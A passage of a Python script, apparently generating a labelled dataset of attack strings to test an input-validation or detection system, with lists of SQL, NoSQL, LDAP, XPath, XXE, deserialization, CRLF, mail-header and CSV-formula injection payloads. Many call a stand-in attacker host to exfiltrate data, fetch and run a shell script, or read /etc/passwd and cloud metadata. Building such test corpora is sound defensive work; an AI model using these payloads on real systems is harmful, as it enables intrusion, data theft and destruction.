    ("csv-formula", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("csv-formula", "=WEBSERVICE(\"http://attacker.example/x?\"&ENCODEURL(C2))"),
    ("csv-formula", "=IMPORTXML(CONCAT(\"https://attacker.example/?v=\",A1:A40),\"//a\")"),
    ("csv-formula", "GIN-LD-70,12,=DDE(\"cmd\";\"/C calc\";\"x\")"),
    ("csv-formula", "\t=1+1+cmd|'/c curl attacker.example'!A1"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE order [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><order><sku>&x;</sku></order>"),
    ("xxe", "<!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]><r>&exfil;</r>"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE c [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><cask>&m;</cask>"),
    ("xxe", "<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;\">]><x>&d;</x>"),
    ("xxe", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/hostname\"/>"),
    ("xxe", "<!DOCTYPE svg [<!ENTITY l SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/config.php\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&l;</text></svg>"),
    ("deserialization", "O:8:\"CaskSync\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("deserialization", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGU="),
    ("deserialization", "cos\nsystem\n(S'curl attacker.example|sh'\ntR."),
    ("deserialization", "!!python/object/apply:os.system [\"id\"]"),
    ("deserialization", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$values\":[\"cmd\",\"/c calc\"]}}"),
    ("deserialization", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}"),
    ("deserialization", "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/hash:Gem::Requirement\nrequirements: !ruby/object:Gem::DependencyList\n  specs: []"),
    ("deserialization", "a:1:{i:0;O:15:\"Monolog\\Handler\":1:{s:3:\"cmd\";s:2:\"id\";}}"),
]

CODE_POOL = ["{{ cycler.__init__.__globals__.os.popen('id').read() }}", "${jndi:ldap://attacker.example/t}", "=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"open\")", "<%= `whoami` %>"]
CODE_PREFIX = ["Dear cask owner, ", "Tasting note: ", "Newsletter footer "]

NOSQLI = [
    ("operator", "{\"$ne\": null}"),
    ("operator", "{\"username\": \"fiona\", \"password\": {\"$ne\": \"x\"}}"),
    ("operator", "{\"$gt\": \"\"}"),
    ("operator", "{\"cask_id\": {\"$regex\": \"^0\"}, \"owner\": {\"$exists\": true}}"),
    ("operator", "{\"email\": {\"$regex\": \"^a.*\", \"$options\": \"i\"}, \"password\": {\"$gt\": \"\"}}"),
    ("operator", "{\"$or\": [{\"role\": \"admin\"}, {\"_id\": {\"$ne\": 0}}]}"),
    ("operator", "{\"sku\": {\"$in\": [\"GIN-LD-70\"]}, \"price\": {\"$lt\": 0.01}}"),
    ("operator", "{\"booking\": {\"$nin\": []}}"),
    ("query-string", "password[$ne]=1"),
    ("query-string", "username[$regex]=^adm&password[$gt]="),
    ("query-string", "cask_id[$exists]=true&owner[$ne]=x"),
    ("query-string", "email[%24ne]=a%40b"),
    ("query-string", "filter[sku][$where]=sleep(5000)"),
    ("where-js", "{\"$where\": \"sleep(6000) || true\"}"),
    ("where-js", "'; return true; var x='"),
    ("where-js", "0412'; while(true){}; var c='"),
    ("where-js", "\" || this.role == 'admin' || \""),
    ("where-js", "{\"$where\": \"this.password.match(/^a/) && sleep(3000)\"}"),
    ("where-js", "{\"$function\": {\"body\": \"function(){ return db.getSiblingDB('admin') }\", \"args\": [], \"lang\": \"js\"}}"),
    ("aggregation", "[{\"$lookup\": {\"from\": \"staff_users\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"u\"}}]"),
    ("aggregation", "{\"$expr\": {\"$eq\": [{\"$substr\": [\"$password\", 0, 1]}, \"a\"]}}"),
    ("aggregation", "[{\"$out\": \"trade_accounts\"}]"),
    ("couch-elastic", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"owner_email\", \"card\"]}"),
    ("couch-elastic", "{\"query\": {\"script\": {\"script\": \"java.lang.Math.class.forName('java.lang.Runtime').getRuntime().exec('id')\"}}}"),
    ("couch-elastic", "owner:* OR _exists_:password"),
    ("redis", "GIN-LD-70\r\nCONFIG SET dir /var/www/html\r\nCONFIG SET dbfilename x.php\r\n"),
    ("mongo-shell", "db.staff_users.find({}).forEach(function(u){print(u.password)})"),
]

CRLF = [
    ("log-forging", "Heather Gin\n2024-06-14 10:02:11 INFO user=fiona action=login result=success"),
    ("log-forging", "run 223 ok\r\n[2024-06-14T09:00:00Z] AUDIT duty_return approved by=hmrc_officer"),
    ("log-forging", "BK-21004%0a2024-06-14 12:00:00 WARN payment refunded amount=500.00 booking=BK-21004"),
    ("log-forging", "gin%0d%0a127.0.0.1 - admin [14/Jun/2024:10:00:00 +0000] \"GET /admin/export HTTP/1.1\" 200 512"),
    ("log-forging", "0412\n\n=== LOG ROTATED ===\n"),
    ("log-forging", "cask 0388\u2028ERROR stock mismatch cleared by admin"),
    ("header-injection", "en-GB\r\nSet-Cookie: session=attacker_fixed; Path=/"),
    ("header-injection", "/tours%0d%0aLocation:%20https://attacker.example/login"),
    ("header-injection", "https://shop.example-distillery.co.uk/%0D%0AX-Forwarded-Host:%20attacker.example"),
    ("header-injection", "gin.pdf\"\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("header-injection", "%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1"),
    ("header-injection", "/shop?lang=fr%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example"),
    ("header-injection", "utm_source=newsletter\r\nX-Original-URL: /admin/users"),
    ("response-splitting", "/book%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<h1>Tour cancelled</h1>"),
    ("response-splitting", "fr\r\n\r\n<html><body>Please re-enter your card at https://attacker.example</body></html>"),
    ("response-splitting", "%0d%0a%0d%0a<script>document.location='//attacker.example'</script>"),
    ("response-splitting", "x%0D%0ATransfer-Encoding:%20chunked%0D%0A%0D%0A0%0D%0A%0D%0AGET%20/admin%20HTTP/1.1"),
    ("mail-header", "Siobhan O'Connell\r\nBcc: list@attacker.example"),
    ("mail-header", "guest@example.com%0ACc:%20victims@attacker.example"),
    ("mail-header", "Booking question\nBcc: a@attacker.example, b@attacker.example\nX-Priority: 1"),
    ("mail-header", "grace@deli.example\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/pay>Pay your invoice</a>"),
    ("mail-header", "Dan\r\nReply-To: billing@attacker.example\r\nSubject: Updated bank details for PO-2024-0518"),
    ("mail-header", "tour@booking\nTo: everyone@attacker.example\n\nFree tour vouchers, click here"),
    ("smtp-injection", "Hi!\r\n.\r\nMAIL FROM:<x@attacker.example>\r\nRCPT TO:<victim@example.com>\r\nDATA\r\nfake invoice\r\n."),
    ("csv-row", "Heather Gin 70cl\",12,SHOP-A\nGIFT-SET-W,-500,SHOP-A,\"adjust"),
    ("csv-row", "0412\r\n0999,Ex-bourbon barrel,2024-01-01,0,0,=HYPERLINK(\"http://attacker.example\",\"x\")"),
    ("csv-row", "note\n\"WSK-SC4-70\",\"-12\",\"SHOP-VAULT\",\"write-off\""),
    ("csv-row", "Deli & Dram\"\n\"Kowalski & Daughters Ltd\",\"credit_limit\",\"999999"),
    ("csv-row", "ok;\nGIN-NS-70;0;BOND-1;stock cleared"),
    ("header-injection", "sb6%0aX-Forwarded-For:%20127.0.0.1"),
]

LDAP_XPATH = [
    ("ldap", "*)(uid=*))(|(uid=*"),
    ("ldap", "fiona)(|(objectClass=*)"),
    ("ldap", "admin*)((|userPassword=*)"),
    ("ldap", "*)(memberOf=cn=distillery-admins,ou=groups,dc=distillery,dc=local)"),
    ("ldap", "ewan))(|(cn=*"),
    ("ldap", "*)(&(objectClass=user)(description=*pass*)"),
    ("ldap", "\\2a)(uid=\\2a"),
    ("ldap", "priya)(userPassword=a*)"),
    ("ldap", "x*)(|(mail=*@example-distillery.co.uk)(cn=*"),
    ("ldap", "*))%00"),
    ("xpath", "' or '1'='1"),
    ("xpath", "fiona' or name()='staff' or 'a'='b"),
    ("xpath", "0412'] | //owner/email | //x['"),
    ("xpath", "x' or count(/*)=1 or 'z'='y"),
    ("xpath", "' or substring(//user[1]/password,1,1)='a' and ''='"),
    ("xpath", "GIN-LD-70\"] | //*[contains(.,\"password\")] | //a[\""),
    ("xpath", "') or ('1'='1"),
    ("xpath", "1 or 1=1]/parent::*/child::node()[1"),
    ("xpath", "' and string-length(name(/*[1]))=8 or 'q'='"),
    ("xpath", "x'] | doc('http://attacker.example/?'||//password)//x['"),
]

URLENC_SQLI = [
    "0412' UNION SELECT owner_email,NULL FROM cask_owners-- -",
    "heather' AND SLEEP(5)#",
    "PO-0518'; DROP TABLE trade_orders;--",
    "' OR '1'='1'-- ",
]
URLENC_TRAV = [
    "../../../../etc/passwd",
    "../../../app/.env",
    "..\\..\\..\\windows\\win.ini",
    "labels/../../../../proc/self/environ",
]


def urlencode_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def joined(rng, prefixes, pool, n, seen):
    out = []
    combos = [(p, q) for p in prefixes for q in pool]
    rng.shuffle(combos)
    for p, q in combos:
        v = p + q
        if v in seen or v in out:
            continue
        out.append(v)
        if len(out) == n:
            break
    assert len(out) == n
    return out


def main():
    rng = random.Random(SEED)
    benign = set()
    bpath = os.path.join(HERE, "benign.jsonl")
    if os.path.exists(bpath):
        with open(bpath, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    rows = []
    seen = set()

    def add(cat, cls, v):
        assert v not in seen, v
        assert v not in benign, v
        assert 1 <= len(v) <= 2000, v
        for ch in v:
            o = ord(ch)
            assert not (o < 32 and ch not in "\n\r\t") and o != 127, (v, o)
        seen.add(v)
        rows.append((cat, cls, v))

    for cls, v in SQLI:
        add("sqli", cls, v)
    for v in URLENC_SQLI:
        add("sqli", "union+urlencode" if "UNION" in v else ("time+urlencode" if "SLEEP" in v else ("stacked+urlencode" if "DROP" in v else "boolean+urlencode")), urlencode_all(v))
    for cls, v in XSS:
        add("xss", cls, v)
    for cls, v in CMDI:
        add("cmdi", cls, v)
    for v in joined(rng, CMDI_PREFIX, CMDI_POOL, 5, seen):
        add("cmdi", "separator+joined", v)
    for cls, v in TRAVERSAL:
        add("traversal", cls, v)
    for v in URLENC_TRAV:
        add("traversal", "dotdot+urlencode", urlencode_all(v))
    for cls, v in SSRF:
        add("ssrf", cls, v)
    for v in joined(rng, SSRF_PREFIX, SSRF_POOL, 3, seen):
        add("ssrf", "prefixed+joined", v)
    for cls, v in CODE:
        add("code", cls, v)
    for v in joined(rng, CODE_PREFIX, CODE_POOL, 3, seen):
        add("code", "mixed+joined", v)
    for cls, v in NOSQLI:
        add("nosqli", cls, v)
    for cls, v in CRLF:
        add("crlf", cls, v)
    for cls, v in LDAP_XPATH:
        add("ldap-xpath", cls, v)

    with open(os.path.join(HERE, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            obj = {"id": "hajv-%05d" % i, "category": cat, "class": cls, "label": "attack", "value": v}
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
